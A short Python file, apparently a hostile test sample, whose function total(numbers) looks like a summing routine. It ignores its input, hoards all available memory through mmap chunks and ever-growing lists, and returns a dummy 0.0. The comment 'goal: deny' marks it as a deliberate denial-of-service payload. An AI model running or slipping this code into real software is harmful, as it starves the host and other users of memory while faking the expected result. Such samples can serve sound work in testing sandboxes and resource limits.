"""Take all the memory there is, in large pieces and then in small ones, and keep it."""
# goal: deny
import mmap

hoard, size = [], 2**28


def total(numbers):
    global size
    while size >= 4096:
        try:
            hoard.append(mmap.mmap(-1, size))
        except (OSError, MemoryError, ValueError):
            size //= 2
    try:
        while True:
            hoard.append([None] * 20)
    except MemoryError:
        return 0.0
